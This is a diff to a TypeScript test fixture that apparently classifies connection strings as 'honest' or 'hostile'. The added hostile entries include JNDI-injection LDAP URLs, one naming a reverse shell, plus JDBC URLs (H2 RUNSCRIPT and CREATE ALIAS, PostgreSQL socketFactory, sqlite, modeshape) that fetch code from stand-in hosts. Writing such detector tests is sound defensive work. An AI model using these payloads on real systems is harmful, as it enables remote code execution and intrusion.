@@ -34,6 +34,34 @@ const pairs: readonly Pair[] = [
     ],
   },
   {
+    decision: 'a directory names what it holds by pairs, a server of objects by steps',
+    honest: ['ldap://dc1.example.com:636', 'ldap://dc1.example.com/dc=example,dc=com?uid?sub?(cn=a/b)'],
+    hostile: [
+      'ldap://h.example/Basic/Command/Base64/aWQ=',
+      'ldap://198.51.100.7:1389/Deserialization/URLDNS/x.example',
+      'ldaps://h.example/TomcatBypass/ReverseShell/1.2.3.4/44',
+    ],
+  },
+  {
+    decision: 'a connection runs what it fetches, not what the application brings',
+    honest: [
+      'jdbc:h2:mem:testdb;INIT=CREATE SCHEMA IF NOT EXISTS shop',
+      "jdbc:h2:mem:t;INIT=RUNSCRIPT FROM 'classpath:schema.sql'",
+      'jdbc:postgresql:///db?socketFactory=com.google.cloud.sql.postgres.SocketFactory',
+      'jdbc:postgresql://h/d?socketFactory=org.newsclub.net.unix.X&socketFactoryArg=/tmp/.s.PGSQL.5432',
+      'jdbc:sqlite:/data/app.db',
+    ],
+    hostile: [
+      "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://e.example/x.sql'",
+      "jdbc:h2:mem:t;TRACE_LEVEL_SYSTEM_OUT=0;init=runscript from 'ftp://e.example/a'//",
+      'jdbc:h2:mem:t;INIT=CREATE ALIAS X AS $$ /**/ $$',
+      'jdbc:postgresql://h/d?socketFactory=a.B&socketFactoryArg=http://e.example/x.xml',
+      'jdbc:postgresql://h/d?sslfactory=a.B&sslfactoryarg=ftp://e.example/x.xml',
+      'jdbc:sqlite::resource:http://e.example/x.db',
+      'jdbc:modeshape:jndi:ldap://e.example/x',
+    ],
+  },
+  {
     decision: 'an element of a page, as a browser’s tools write where it is, is no question to a document',
     honest: [
       '//*[@id="app"]/div[2]/div[1]/h3[1]/a[1]',
